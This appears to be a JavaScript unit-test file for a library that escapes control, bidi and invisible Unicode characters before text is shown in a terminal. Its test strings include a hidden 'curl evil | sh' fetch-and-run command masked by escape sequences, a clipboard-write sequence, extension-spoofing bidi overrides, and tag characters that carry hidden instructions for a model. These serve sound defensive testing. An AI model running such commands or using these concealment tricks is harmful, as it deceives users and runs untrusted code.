import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { terminalSafe, terminalSafeBlock, terminalSafeParts } from './terminal-text.js';

test('escape sequences are shown, not interpreted', () => {
  const hostile = "runs: /usr/bin/sh -c 'curl evil | sh'\x1b[1K\rruns: node index.mjs";
  const safe = terminalSafe(hostile);
  assert.equal(safe.includes('\x1b'), false);
  assert.equal(safe.includes('\r'), false);
  assert.match(safe, /curl evil \| sh'\\x1b\[1K\\rruns: node index\.mjs$/);
});

test('C1 controls, DEL, bidi overrides and separators are escaped', () => {
  assert.equal(terminalSafe('a\u009b2Jb'), 'a\\x9b2Jb');
  assert.equal(terminalSafe('x\u007fy'), 'x\\x7fy');
  assert.equal(terminalSafe('abc\u202egpj.exe'), 'abc\\u202egpj.exe');
  assert.equal(terminalSafe('l\u2028m'), 'l\\u2028m');
  assert.equal(terminalSafe('bell\u0007'), 'bell\\x07');
});

test('newlines: escaped on one line, kept in blocks; tabs and unicode text stay', () => {
  assert.equal(terminalSafe('a\nb'), 'a\\nb');
  assert.equal(terminalSafeBlock('a\nb\x1b[31m'), 'a\nb\\x1b[31m');
  const plain = 'héllo\twörld — 日本 🎉';
  assert.equal(terminalSafe(plain), plain);
});

test('invisible characters are shown: zero-width space, marks, BOM, tags, fillers', () => {
  assert.equal(terminalSafe('rm\u200b -rf'), 'rm\\u200b -rf');
  assert.equal(terminalSafe('a\u200e\u200f\u061cb'), 'a\\u200e\\u200f\\u061cb');
  assert.equal(terminalSafe('\ufeffx\u2060y\u00adz'), '\\ufeffx\\u2060y\\xadz');
  assert.equal(terminalSafe('name\u3164'), 'name\\u3164');
  // Tag characters spell ASCII nobody sees ("hi" here): hidden instructions for a model.
  assert.equal(terminalSafe('ok\u{e0068}\u{e0069}'), 'ok\\u{e0068}\\u{e0069}');
  assert.equal(terminalSafe('lone \ud800 half'), 'lone \\ud800 half');
});

test('joiners and variation selectors stay inside emoji and scripts, nowhere else', () => {
  for (const kept of ['👩‍💻', '❤️', '1️⃣', '🏳️‍🌈', '👩🏽‍💻', 'می‌خواهم', 'क्‍ष']) {
    assert.equal(terminalSafe(kept), kept, kept);
  }
  assert.equal(terminalSafe('ls\u200d-la'), 'ls\\u200d-la');
  assert.equal(terminalSafe('\u200dstart'), '\\u200dstart');
  assert.equal(terminalSafe('é\u200c\u200d\u200cé'), 'é\\u200c\\u200d\\u200cé');
  assert.equal(terminalSafe('x\ufe0f\ufe0e\ufe0f'), 'x\ufe0f\\ufe0e\\ufe0f');
  assert.equal(terminalSafe(' \ufe0f'), ' \\ufe0f');
});

test('escaping is idempotent', () => {
  const hostile = 'a\x1b]52;c;Zm9v\x07\u202e\u200b👩‍💻\u{e0041}\n\u009b';
  const once = terminalSafe(hostile);
  assert.equal(terminalSafe(once), once);
  assert.doesNotMatch(once, /[\x00-\x1f\x7f-\x9f\u200b\u202e\u{e0041}]/u);
});

test('terminalSafeParts: escapes apart from text that only looks like one', () => {
  const parts = terminalSafeParts('a\\n\nb\x1b👩‍💻');
  assert.deepEqual(parts, [
    { text: 'a\\n', escape: false },
    { text: '\\n', escape: true },
    { text: 'b', escape: false },
    { text: '\\x1b', escape: true },
    { text: '👩‍💻', escape: false },
  ]);
  assert.equal(parts.map((p) => p.text).join(''), terminalSafe('a\\n\nb\x1b👩‍💻'));
});

test('a lone surrogate before a joiner is not read as half of a pair', () => {
  const text = '\u0c4e\udc00\u200d\u0c1a';
  assert.equal(terminalSafe(text), '\u0c4e\\udc00\\u200d\u0c1a');
  assert.equal(terminalSafe(terminalSafe(text)), terminalSafe(text));
});
